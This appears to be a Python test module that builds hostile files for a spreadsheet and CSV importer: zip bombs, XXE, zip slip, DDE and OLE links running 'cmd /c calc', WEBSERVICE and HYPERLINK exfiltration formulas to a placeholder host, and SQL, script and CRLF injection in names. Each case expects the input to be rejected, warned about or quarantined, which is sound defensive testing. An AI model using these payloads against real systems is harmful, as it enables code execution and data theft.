"""I. Hostile: kinds 134 to 148. The larger set stands in `hostile`."""

from __future__ import annotations

import random
import zlib
from dataclasses import replace

from tests.bad_inputs import hostile_files
from tests.bad_inputs.files.forms import CIVIL, DISABLED, POOR, ROLL, TAX, Form
from tests.bad_inputs.files.grid import Grid
from tests.bad_inputs.files.make import Damage, in_csv, in_xlsx, value
from tests.bad_inputs.kinds.model import Expect, Kind, Made, Make, kind, loads, quarantines, rejects, warns
from tests.support.files.raw_xlsx import Book, formula

EVIL_NAMES = ("=cmd|'/C calc'!A0", "+1+cmd", "-2+3", "@SUM(A1)", "\uff1d1+1")
SQL_NAMES = ("Robert'); DROP TABLE core.person;--", "张'--", 'a" OR 1=1', "%s%(x)s{}")
MARKUP_NAMES = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;", "]]><x>")


def _hostile(name: str) -> tuple[str, Make, Expect]:
    """A file of the hostile set; the first of its codes is the expected one."""
    make, codes = hostile_files.HOSTILE[name]
    form = ROLL if "csv" in name else CIVIL
    return name, lambda rng: Made(make(rng), form), rejects(sorted(codes)[0])


def _named(*names: str) -> Damage:
    """Persons who are called so; they must be loaded exactly so."""

    def damage(table: Grid, rng: random.Random) -> None:
        for line, name in zip(table.data, names, strict=False):
            assert line.truth is not None
            line.truth = replace(line.truth, name=name)
            line.cells[table.form.at("name")] = name
            line.hit = True

    return damage


def _column(header: str) -> Damage:
    return lambda table, rng: table.column(0, header, lambda line: "x")


def _formula(text: str) -> Make:
    return in_xlsx(CIVIL, value("unit", formula(text, "甲镇")))


def _cell(form: Form, canonical: str, text: str) -> Make:
    return in_csv(form, value(canonical, text))


def _parted(name: str, content: str) -> Make:
    def parts(one: Book) -> None:
        one.parts[name] = content

    return in_xlsx(CIVIL, parts=parts)


def _named_file(name: str, form: Form = ROLL) -> Make:
    return in_csv(form, name=name)


DDE = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
OLE_LINK = '<externalLink><oleLink progId="Package"/></externalLink>'

KINDS: tuple[Kind, ...] = (
    kind(
        134,
        "zip bomb",
        "R",
        *map(
            _hostile,
            ("100 MB of zeros beside the sheet", "200 MB of one shared string", "members that share their bytes"),
        ),
        (
            "a csv of zeros in a zip",
            lambda rng: Made(
                hostile_files.raw_zip([(f"{rng.random()}.csv", hostile_files.zeros(64), 64 << 20, 0)]), ROLL
            ),
            rejects("file_unsafe"),
        ),
    ),
    kind(
        135,
        "far-cell bomb of 4.6 KB",
        "R",
        *map(
            _hostile, ("a cell at XFD1048576", "a far cell in single quotes", "a far cell under a prefix", "a far row")
        ),
    ),
    kind(
        136,
        "billion laughs, quadratic blow-up",
        "R",
        *map(_hostile, ("billion laughs in the strings", "billion laughs in the sheet", "quadratic blow-up")),
    ),
    kind(
        137,
        "XXE file:// or http://",
        "R",
        *map(
            _hostile,
            (
                "a local file as an entity",
                "a parameter entity from the net",
                "an entity in the relations",
                "a document type in UTF-16",
            ),
        ),
    ),
    kind(
        138,
        "zip slip",
        "R",
        *map(_hostile, ("a path to the outside", "an absolute path", "a path with a drive")),
    ),
    kind(
        139,
        "formula text in a name",
        "N as text + escaped out, W",
        ("in a csv", in_csv(ROLL, _named(*EVIL_NAMES)), warns("name_signs")),
        ("in a workbook", in_xlsx(CIVIL, _named(*EVIL_NAMES[::-1])), warns("name_signs")),
        (
            "in the tax feed",
            in_csv(TAX, _named(EVIL_NAMES[0], EVIL_NAMES[2]), encoding="utf-8"),
            warns("name_signs"),
        ),
        (
            "after TAB and CR",
            in_csv(ROLL, lambda t, rng: t.data[0].cells.__setitem__(0, "\t\r" + t.data[0].cells[0])),
            loads(),
        ),
    ),
    kind(
        140,
        "HYPERLINK, WEBSERVICE exfiltration formula",
        "R",
        ("WEBSERVICE", _formula('WEBSERVICE("http://example.invalid/?"&C4)'), rejects("formula_unsafe")),
        ("HYPERLINK", _formula('HYPERLINK("http://example.invalid/?"&C4,"甲镇")'), rejects("formula_unsafe")),
        ("IMPORTXML", _formula('_xlfn.IMPORTXML("http://example.invalid","//a")'), rejects("formula_unsafe")),
        (
            "as text of a csv",
            _cell(ROLL, "household_no", '=HYPERLINK("http://example.invalid/?x=1","户")'),
            rejects("formula_unsafe"),
        ),
        ("as text of a name", _cell(TAX, "name", '+WEBSERVICE("http://example.invalid")'), rejects("formula_unsafe")),
    ),
    kind(
        141,
        "SQL fragments in names, headers, sheet names",
        "N as text, W",
        ("names of a csv", in_csv(ROLL, _named(*SQL_NAMES), encoding="utf-8"), warns("name_signs")),
        (
            "names and the sheet's name",
            in_xlsx(CIVIL, _named(*SQL_NAMES), book_name="x';DROP TABLE a;--"),
            warns("name_signs"),
        ),
        ("a header", in_csv(POOR, _column("1; DELETE FROM core.payment")), loads("extra_column")),
    ),
    kind(
        142,
        "<script>, <img onerror> in a name",
        "N escaped, W",
        ("names of a csv", in_csv(ROLL, _named(*MARKUP_NAMES)), warns("name_signs")),
        ("names of a workbook", in_xlsx(DISABLED, _named(*MARKUP_NAMES[:2])), warns("name_signs")),
        ("a payer", in_csv(TAX, _named(MARKUP_NAMES[1])), warns("name_signs")),
    ),
    kind(
        143,
        "CRLF in recipient or file name (header injection)",
        "R",
        ("CRLF", _named_file("名册\r\nBcc: a@example.invalid.csv"), rejects("file_name_unsafe")),
        ("LF", _named_file("名册\nX: y.csv", POOR), rejects("file_name_unsafe")),
        ("encoded", _named_file("名册%0d%0aBcc.csv", TAX), rejects("file_name_unsafe")),
        ("a line separator", _named_file("名册\u2028.csv"), rejects("file_name_unsafe")),
    ),
    kind(
        144,
        "regex bombs, 32,767-character cells",
        "Q",
        ("a name", in_csv(ROLL, value("name", "长" * 32_767)), quarantines("name_length")),
        ("a number", in_csv(POOR, value("document_number", "1 " * 16_000)), quarantines("document_length")),
        ("a date", in_csv(ROLL, value("household_no", "a" * 32_000 + "!")), quarantines("cell_length")),
        ("an amount", in_csv(TAX, value("receipt_no", "((((" * 8_000)), quarantines("cell_length")),
        ("a date of nines", in_xlsx(CIVIL, value("effective_on", "9" * 32_767)), quarantines("date_format")),
    ),
    kind(
        145,
        "10,000 sheets or columns",
        "R",
        *map(_hostile, ("10,000 columns", "10,000 columns of a csv", "2,000 sheets", "100 sheets")),
    ),
    kind(
        146,
        "DDE, OLE object, embedded program",
        "R",
        ("a DDE link", _parted("xl/externalLinks/externalLink1.xml", DDE), rejects("file_macro")),
        ("a linked object", _parted("xl/externalLinks/externalLink2.xml", OLE_LINK), rejects("file_macro")),
        ("an embedded object", _parted("xl/embeddings/oleObject1.bin", "MZ"), rejects("file_macro")),
        ("a program in a zip", lambda rng: Made(hostile_files.raw_zip([_program(rng)]), CIVIL), rejects("file_type")),
        (
            "DDE as a formula",
            in_xlsx(CIVIL, value("unit", formula("cmd|'/c calc'!A1", "甲镇"))),
            rejects("formula_unsafe"),
        ),
    ),
    kind(
        147,
        "steganographic, polyglot",
        "R by signature",
        ("a page before the workbook", in_xlsx(CIVIL, finish=lambda d: b"<html>" + d), rejects("file_polyglot")),
        ("a page after the workbook", in_xlsx(CIVIL, finish=lambda d: d + b"<html></html>"), rejects("file_polyglot")),
        ("a workbook after a csv", lambda rng: _joined(rng), rejects("file_polyglot")),
        (
            "a page as the comment",
            lambda rng: Made(hostile_files.HOSTILE["a page as the zip's comment"][0](rng), CIVIL),
            rejects("file_polyglot"),
        ),
    ),
    kind(
        148,
        "homoglyph file names, RTL override",
        "R",
        ("a Cyrillic letter", _named_file("名册.\u0445lsx"), rejects("file_name_lookalike")),
        ("a full-width point", _named_file("名册\uff0ecsv", POOR), rejects("file_name_lookalike")),
        ("a Greek letter", _named_file("\u03bdeterans.csv", TAX), rejects("file_name_lookalike")),
        ("written from the right", _named_file("名册\u202evsc.exe"), rejects("file_name_unsafe")),
        ("a program behind two endings", _named_file("名册.xlsx.exe"), rejects("file_type")),
    ),
)


def _program(rng: random.Random) -> tuple[str, bytes, int, int]:
    content = b"MZ\x90\0" + b"%x" % rng.getrandbits(64)
    return "名册.xlsx", hostile_files.packed(content), len(content), zlib.crc32(content)


def _joined(rng: random.Random) -> Made:
    one = in_csv(ROLL)(rng)
    return Made(one.data + hostile_files.clean(rng).data(), ROLL)
